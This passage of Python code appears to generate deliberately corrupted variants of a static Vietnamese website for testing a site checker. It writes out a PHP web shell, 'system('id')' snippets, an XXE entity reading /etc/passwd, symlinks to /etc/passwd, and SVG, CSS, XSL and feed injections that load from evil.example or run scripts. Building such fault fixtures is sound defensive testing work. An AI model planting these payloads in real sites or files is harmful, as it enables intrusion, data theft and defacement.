def no_secret(random: Random, tree: Tree) -> Spoil:
    tree = {path: content for path, content in tree.items() if not path.startswith("tim-kiem/")}  # of a form of its own
    path = _kinds(tree, random, tuple({_ending(one) for one in tree} - {"html", "json", "ics", "txt", "csv", "xml"}))
    text = random.choice(NOT_SECRETS)
    return Spoil("no secrets", f"{path}: {text}", {path: put_text(text, path, tree[path], random)}, "")


def personal(random: Random, tree: Tree) -> Spoil:
    path = _kinds(tree, random, tuple({_ending(one) for one in tree} - {*_HOLDS_TEXT}))
    text = random.choice(PERSONAL)
    return Spoil("personal", f"{path}: {text}", {path: put_text(text, path, tree[path], random)}, path)


def machine(random: Random, tree: Tree) -> Spoil:
    """Where nobody reads: what stands in an article's text is its own matter."""
    path = _kinds(tree, random, tuple({_ending(one) for one in tree} - {"html", "css", "js", "txt"}))
    text = random.choice(MACHINE)
    is_page = _ending(path) == "html"
    made = (
        _into(tree[path], f"<!-- {text} -->", random, PLACES[:2])
        if is_page
        else put_text(text, path, tree[path], random)
    )
    return Spoil("machine paths", f"{path}: {text}", {path: made}, path)


def private(random: Random, tree: Tree) -> Spoil:
    name = random.choice(PRIVATE)
    folder = random.choice(("", "", "bai-viet/", "images/", "theme/"))
    path = name if "/" in name else folder + name
    content = random.choice((b"x\n", b"<?php system($_GET['c']); ?>\n", b"\0\1\2binary", b"SQLite format 3\0"))
    return Spoil("private files", path, {path: content}, path.split("/")[0])


def public(random: Random, tree: Tree) -> Spoil:
    name = random.choice(
        (
            ".well-known/security.txt",
            ".nojekyll",
            "humans.txt",
            "ads.txt",
            "llms.txt",
            "googlea1b2c3d4e5f60718.html",
            "BingSiteAuth.xml",
            ".well-known/assetlinks.json",
        )
    )
    content = {
        "html": b"google-site-verification: " + name.encode() + b"\n",
        "xml": b'<?xml version="1.0"?>\n<users><user>A1B2</user></users>\n',
        "json": b"[]\n",
        "nojekyll": b"",
    }.get(_ending(name), b"Contact: https://la.example/\n")
    return Spoil("public files", name, {name: content}, "")


PAGE = """<!doctype html>
<html lang="vi"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'"><title>{0}</title></head>
<body><h1>{0}</h1><a href="/">a</a></body></html>
"""


def orphan(random: Random, tree: Tree) -> Spoil:
    """Something dropped into the tree that nothing leads to."""
    folder = random.choice(("", "bai-viet/", "images/", "theme/", "moi/", "a/b/c/", "tim-kiem/", "api/v1/"))
    name = random.choice(
        (
            "x.html",
            "x/index.html",
            "x.htm",
            "x.txt",
            "x.js",
            "x.css",
            "x.json",
            "x.xml",
            "x.pdf",
            "x.png",
            "x.svg",
            "x.zip",
            "x",
            "x.woff2",
            "x.csv",
            "x.mp4",
            "x.ics",
            "x.bin",
            "x.wasm",
            "x.jpg",
        )
    )
    content = {
        "html": PAGE.format("Trang lạ").encode(),
        "htm": PAGE.format("a").encode(),
        "js": b"fetch('/');\n",
        "css": b"a { color: red }\n",
        "json": b"{}\n",
        "xml": b"<a/>\n",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    }.get(_ending(name), b"")
    if not content:
        same = sorted(path for path in tree if _ending(path) == _ending(name))
        content = tree[same[0]] if same else b"x\n"
    return Spoil("orphans", folder + name, {folder + name: content}, folder + name)


def permissions(random: Random, tree: Tree) -> Spoil:
    path = random.choice(sorted(tree))
    folder = path.rpartition("/")[0] or "theme"
    mode = random.choice((0o600, 0o640, 0o646, 0o666, 0o777, 0o755, 0o4644, 0o2644, 0o000, 0o400, 0o662))
    closed = random.choice((0o700, 0o750, 0o777, 0o757, 0o744, 0o1777, 0o711, 0o770))
    there, where = random.choice(("/etc/passwd", "../x", "khong-co")), random.choice(("/", "bai-viet", ".."))

    def replaced(root: Path) -> None:
        (root / path).unlink()
        (root / path).symlink_to(there)

    ways: tuple[tuple[str, str, Act], ...] = (
        (f"{path} {mode:o}", path, lambda root: (root / path).chmod(mode)),
        (f"{folder}/ {closed:o}", folder, lambda root: (root / folder).chmod(closed)),
        (f"{path} → {there}", path, replaced),
        (f"zz → {where}", "zz", lambda root: (root / "zz").symlink_to(where)),
        ("fifo", "zz", lambda root: os.mkfifo(root / "zz")),
        (f"{path} hard link", path, lambda root: _hard_link(root, path)),
    )
    label, named, act = random.choice((ways[0], ways[0], ways[0], *ways[1:]))
    return Spoil("permissions", label, {}, named, act)


def _hard_link(root: Path, path: str) -> None:
    outside = root.parent / "outside"
    outside.unlink(missing_ok=True)
    outside.write_bytes((root / path).read_bytes())
    (root / path).unlink()
    os.link(outside, root / path)


def right_permissions(random: Random, tree: Tree) -> Spoil:
    path = random.choice(sorted(tree))
    mode = random.choice((0o644, 0o664, 0o444))
    folder = random.choice((0o755, 0o775, 0o555))

    def act(root: Path) -> None:
        (root / path).chmod(mode)
        (root / "theme").chmod(folder)

    return Spoil("right permissions", f"{path} {mode:o}, theme {folder:o}", {}, "", act)


def names(random: Random, tree: Tree) -> Spoil:
    """Names that differ only for a machine, or that no server should give."""
    path = _pick(random, tree, "png", "svg", "webp", "json")
    folder, _, name = path.rpartition("/")
    made = random.choice(
        (
            name.upper(),
            f"{name} ",
            f"{name}.",
            "e\u0302" + name,
            "\u202e" + name,
            "a\u200b" + name,
            "a\n" + name,
            "a\\" + name,
            "a:" + name,
            "con." + name.rpartition(".")[2],
            "%2e" + name,
            "a?" + name,
            "-rf " + name,
            " " + name,
            name.replace(".", ".."),
            "x" * 240 + ".png",
            name + ";.jpg",
            "a|b" + name,
        )
    )
    other = f"{folder}/{made}".lstrip("/")
    return Spoil(
        "names",
        repr(other),
        {other: tree[path]},
        made.strip().split("\n")[-1][:20] if "\n" in made else made[-10:].strip(),
    )


def wrong_type(random: Random, tree: Tree) -> Spoil:
    path = _kinds(tree, random, ("txt", "html", "csv"))
    others = [
        b"<!doctype html><script>alert(1)</script>",
        b"<?php system('id') ?>",
        b"#!/bin/sh\nid\n",
        b"MZ" + b"\0" * 60,
        b"\x7fELF" + b"\0" * 60,
        b"GIF89a<?php x ?>",
        b"%PDF-1.4\n%%EOF\n",
        b"PK\3\4" + b"\0" * 60,
        b"not what it was\n",
        b"<html>502 Bad Gateway</html>",
        b"\x89PNG\r\n\x1a\n<script>",
        b"version https://git-lfs.github.com/spec/v1\noid sha256:4d7a\nsize 12\n",
    ]
    content = random.choice(others)
    return Spoil("wrong type", f"{path}: {content[:30]!r}", {path: content}, path)


def appended(random: Random, tree: Tree) -> Spoil:
    """Bytes behind the end of a file."""
    path = _kinds(tree, random, ("txt", "csv", "css"))
    extra = random.choice(
        (
            b"<script>alert(1)</script>",
            b"<?php system('id') ?>",
            b"PK\3\4" + b"\1" * 80,
            b"\n<a href='https://w88.example'>w88</a>",
            b"\0" * 9 + b"x" * 90,
            b"<!-- x --><img src=//evil.example/x>",
        )
    )
    return Spoil("appended", f"{path} + {extra[:30]!r}", {path: tree[path] + extra}, path)


def encodings(random: Random, tree: Tree) -> Spoil:
    path = _kinds(tree, random, tuple({_ending(one) for one in tree} - {"html", "xml", "json", "ics"}))
    text = tree[path].decode()
    way = random.randrange(6)
    if not any(ord(letter) > 255 for letter in text):
        way = random.choice((0, 2))
    made = (
        lambda: text.encode("utf-16"), lambda: text.encode("utf-8").decode("cp1252", "replace").encode(), lambda: text.encode("utf-8") + b"<!-- \xe1\xbb -->", lambda: text.encode("cp1258", "replace"),
        lambda: text.replace("ộ", "\ufffd").replace("ạ", "\ufffd").replace("ủ", "\ufffd").encode(), lambda: text.encode("utf-8").decode("latin-1").encode(),
    )[way]()  # fmt: skip
    if made == tree[path]:
        made = text.encode("utf-16")
    return Spoil("encodings", f"{path} way {way}", {path: made}, path)


_FEED_WAYS: tuple[tuple[str, str, str], ...] = (
    (r"rss\.xml", r"<pubDate>[^<]*</pubDate>", "<pubDate>2024-01-01</pubDate>"), (r"rss\.xml", r"<guid[^>]*>[^<]*</guid>", "<guid>x</guid>"), (r"rss\.xml", r'version="2.0"', 'version="3.0"'), (r"rss\.xml", r"<title>", "<titl>"), (r"rss\.xml", r"<link>https://[^<]*</link>(?=[\s\S]*<item)", ""),
    (r"rss\.xml", r"<link>https?://[^/<]*/([^<]*)</link>", r"<link>/\1</link>"), (r"atom\.xml", r"<updated>[^<]*</updated>", "<updated>hôm qua</updated>"), (r"atom\.xml", r"<id>[^<]*</id>", ""), (r"atom\.xml", r"<updated>([^T<]*)T[^<]*</updated>", r"<updated>\1</updated>"), (r"atom\.xml", r"<id>[^<]*</id>", "<id>a</id>"), (r"atom\.xml", r"xmlns=", "xmlnz="),
    (r"atom\.xml", r"<entry>", "<entry"), (r"\.xml", r'encoding="utf-8"', 'encoding="utf-16"'), (r"atom\.xml|rss\.xml", r"&amp;|</", "&"), (r"feed\.json", r'"id":', '"id2":'), (r"feed\.json", r'"version":', '"ver":'), (r"feed\.json", r'"date_published":\s*"[^"]*"', '"date_published":"hôm qua"'), (r"feed\.json", r'"items":\s*\[', '"items":{'),
    (r"feed\.json", r'"url":\s*"https?://[^/"]*/', '"url":"/'), (r"\.json", r"\}", "},"), (r"\.json", r":", "="), (r"\.json", r"\{", "{{"), (r"\.json", r'"([a-z_]+)":', r"\1:"), (r"muc-luc\.json|index\.json|1\.json", r"^", "\ufeff"), (r"\.json", r"\Z", " // x"), (r"\.ics", r"DTSTART[^\n]*\n", ""), (r"\.ics", r"UID:[^\n]*\n", ""), (r"\.ics", r"BEGIN:VEVENT", "BEGIN:VEVNT"),
    (r"\.ics", r"END:VEVENT\r\n", ""), (r"\.ics", r"(DTSTART[^:]*:)[^\r\n]*", r"\g<1>20241399"), (r"\.ics", r"VERSION:2.0\r\n", ""), (r"\.ics", r"SUMMARY:", "SUMMARY "), (r"\.ics", r"(DTSTAMP[^:]*:)[^\r\n]*", r"\1xx"), (r"sitemap\.xml", r"<loc>https://[^<]*</loc>", "<loc>/a/</loc>"), (r"sitemap\.xml", r"<loc>([^<]*)</loc>", r"<loc>\1khong-co/</loc>"), (r"sitemap\.xml", r"<loc>https:", "<loc>http:"),
    (r"sitemap\.xml", r"<lastmod>[^<]*</lastmod>", "<lastmod>01/02/2024</lastmod>"), (r"sitemap\.xml", r"(<url>.*?</url>)", r"\1\1"), (r"sitemap\.xml", r"<urlset [^>]*>", "<urlset>"), (r"sitemap\.xml", r"<loc>", "<lok>"), (r"opensearch\.xml", r'template="https://[^/]*/', 'template="https://evil.example/'), (r"opensearch\.xml", r"<Url", "<Ur"), (r"opensearch\.xml", r"<ShortName>[^<]*</ShortName>", ""),
    (r"webmanifest", r'"src":\s*"[^"]*"', '"src":"/khong-co.png"'), (r"webmanifest", r'"src":\s*"[^"]*"', '"src":"https://evil.example/a.png"'), (r"webmanifest", r'"start_url":\s*"[^"]*"', '"start_url":"https://evil.example/"'), (r"webmanifest", r'"icons"', '"icon"'), (r"webmanifest", r"\]", ""), (r"feed\.xsl", r"<xsl:template", "<xsl:templat"), (r"atom\.xml|rss\.xml", r"\?>\s*<(rss|feed)", r'?><?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><\1'),
    (r"atom\.xml|rss\.xml", r"\?>", '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), (r"rss\.xml", r"<link>https://[^<]*</link>", "<link>javascript:x()</link>"), (r"atom\.xml", r'href="[^"]*"', 'href="javascript:x()"'), (r"atom\.xml", r'href="https://[^"]*"', 'href="https://evil.example/"'), (r"rss\.xml", r"<link>https://[^<]*</link>", "<link>https://evil.example/</link>"),
    (r"rss\.xml|atom\.xml", r"(<(?:item|entry)>)", r"\1<script xmlns='http://www.w3.org/1999/xhtml'>x()</script>"), (r"\.svg", r"<svg ", "<svg onload='x()' "), (r"\.svg", r"</svg>", "<script>x()</script></svg>"), (r"\.svg", r"</svg>", "<image href='https://evil.example/a.png'/></svg>"), (r"\.svg", r"</svg>", "<foreignObject/></svg>"), (r"\.svg", r"</svg>", "<a href='javascript:x()'><path d='M1 1'/></a></svg>"), (r"\.svg", r"</svg>", "<style>@import url(//evil.example/a)</style></svg>"),
    (r"\.svg", r"</svg>", "<set attributeName='onclick' to='x()'/></svg>"), (r"\.svg", r"</svg>", "<animate attributeName='href' values='javascript:x()'/></svg>"), (r"\.svg", r"^", "<?xml-stylesheet href='https://evil.example/a.css'?>"), (r"\.svg", r"</svg>", "<use href='https://evil.example/a.svg#b'/></svg>"), (r"\.svg", r"</svg>", "<a href='https://w88.example/'><text>w88</text></a></svg>"), (r"feed\.css", r"\Z", "@import url(https://evil.example/a.css);"), (r"feed\.css", r"\Z", "a{background:url(//evil.example/x)}"),
    (r"feed\.css", r"\Z", "a{behavior:url(x.htc)}"), (r"feed\.css", r"\Z", "a{width:expression(x())}"), (r"feed\.css", r"\Z", "@font-face{src:url(https://evil.example/a.woff2)}"), (r"feed\.css", r"\Z", "a{background:u\\72l(//evil.example/x)}"), (r"feed\.css", r"\Z", "@import '//evil.example/a.css';"), (r"feed\.css", r"\Z", "a{background:image-set('https://evil.example/a.png' 1x)}"), (r"feed\.css", r"\Z", "a{background:url(/khong-co.png)}"), (r"feed\.css", r"\Z", "a{background:url('javascript:x()')}"),
    (r"feed\.css", r"\Z", "a{background:src('https://evil.example/a')}"), (r"feed\.css", r"\Z", "a{cursor:url(https://evil.example/a.cur),auto}"), (r"feed\.css", r"\Z", "a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}"), (r"feed\.css", r"\Z", "@namespace x 'a'; a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://evil.example/a')}"), (r"feed\.xsl", r"</xsl:stylesheet>", "<xsl:include href='https://evil.example/a.xsl'/></xsl:stylesheet>"),
    (r"feed\.xsl", r"<head>", "<head><script>x()</script>"), (r"feed\.xsl", r"</body>", "<img src='https://evil.example/a.png'/></body>"), (r"feed\.xsl", r"<body", "<body onload='x()'"), (r"feed\.xsl", r"</xsl:stylesheet>", "<xsl:variable name='a' select=\"document('https://evil.example/a')\"/></xsl:stylesheet>"), (r"tim-kiem/.*\.json", r'"/[a-z]', '"https://evil.example/'), (r"muc-luc\.json", r"\[", "[null,"), (r"\.bin", r"^[\s\S]*$", ""), (r"api/v1/.*\.json", r'"https://[^/"]*/([a-z-]+)/', r'"https://evil.example/\1/'),
    (r"api/v1/.*1\.json", r'"(?:url|html|link)":\s*"[^"]*"', '"url":"javascript:x()"'), (r"feed\.json", r'"content_html":\s*"', '"content_html":"<script>x()</script>'), (r"feed\.json", r'"(home_page_url|feed_url)":\s*"[^"]*"', r'"\1":"https://evil.example/"'), (r"html", r"<title>[^<]*</title>", ""), (r"html", r"<!doctype html>", ""), (r"html", r'<meta charset="utf-8">', ""), (r"html", r'lang="vi"', 'lang=""'), (r"html", r'<meta charset="utf-8">', '<meta charset="windows-1258">'), (r"html", r"</main>", '<p id="noi-dung"></p></main>'),
    (r"html", r'"@context"', '"@context":1,"@context"'), (r"html", r"application/ld\+json", "text/javascript"), (r"html", r"application/ld\+json", "application/ecmascript"), (r"html", r'"@graph":\[', '"@graph":{'), (r"html", r'(<link rel="canonical" href=")https://[^/"]*', r"\1https://evil.example"), (r"html", r'(<link rel="canonical" href="[^"]*)"', r'\1khong-co/"'), (r"html", r"<title>[^<]*</title>", "<title></title>"), (r"html", r"<body", "<body hidden"), (r"html", r"<(h1|main)", r"<\1 onclick=x"),
)  # fmt: skip


def changed(random: Random, tree: Tree) -> Spoil:
    """A piece of a file is another: formats, addresses, what runs in pictures, sheets and feeds."""
    while True:
        names, old, new = random.choice(_FEED_WAYS)
        paths = sorted(
            path
            for path in tree
            if re.search(names, path)
            and not path.endswith((".gz", ".br"))
            and b'http-equiv="refresh"' not in tree[path]
        )
        random.shuffle(paths)
        for path in paths:
            raw = tree[path].decode("utf-8", "replace")
            made = (
                re.sub(old, new, raw, count=1)
                if "guid" not in old and old != r"<id>[^<]*</id>"
                else re.sub(old, new, raw)
            )
            if made != raw:
                return Spoil("changed", f"{path}: {old} → {new}", {path: made.encode()}, path)


def copies(random: Random, tree: Tree) -> Spoil:
    """A compressed copy that is another file's, cut, or of a file that is not there."""
    path = _pick(random, tree, "html", "json", "css", "xml")
    content = tree[path]
    made = random.choice(
        (
            gzip.compress(content.replace(b"<", b"< ", 1) + b" "),
            gzip.compress(content)[:-9],
            b"",
            b"x",
            gzip.compress(content) + b"x",
            content,
            gzip.compress(b""),
        )
    )
    return Spoil("copies", f"{path}.gz {made[:12]!r}", {f"{path}.gz": made}, path)


def right_copies(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html", "json", "css", "xml")
    return Spoil("right copies", path, {f"{path}.gz": gzip.compress(tree[path], random.randrange(1, 10))}, "")


def host_of(tree: Tree) -> str:
    match = re.search(rb'<link rel="canonical" href="https://([^/"]*)/', tree["index.html"])
    assert match
    return match[1].decode()


Make = Callable[[Random, Tree], Spoil]
SPOILING: Mapping[str, Make] = {
    "running": running, "betting": betting, "betting elsewhere": betting_elsewhere, "hidden links": hidden_links, "broken links": broken, "policy": weaker, "removed": removed, "cut": cut, "flipped": flipped, "secrets": secret, "personal": personal,
    "machine paths": machine, "private files": private, "orphans": orphan, "permissions": permissions, "names": names, "wrong type": wrong_type, "appended": appended, "encodings": encodings, "changed": changed, "copies": copies,
}  # fmt: skip
RIGHT: Mapping[str, Make] = {
    "whole links": whole_links, "harmless": harmless, "policy as strong": stronger, "no secrets": no_secret, "public files": public, "right permissions": right_permissions, "right copies": right_copies,
}  # fmt: skip


def spoils(tree: Tree, seed: int, each: int, only: str = "") -> Iterator[Spoil]:
    """Yield so many changes of each family, or of one; no change twice."""
    for name, make in {**SPOILING, **RIGHT}.items():
        if only not in ("", name):
            continue
        random = Random(f"{name} {seed}")
        seen: set[str] = set()
        for _ in range(each * 4):
            if len(seen) >= each:
                break
            spoil = make(random, tree)
            if spoil.label not in seen:
                seen.add(spoil.label)
                yield spoil
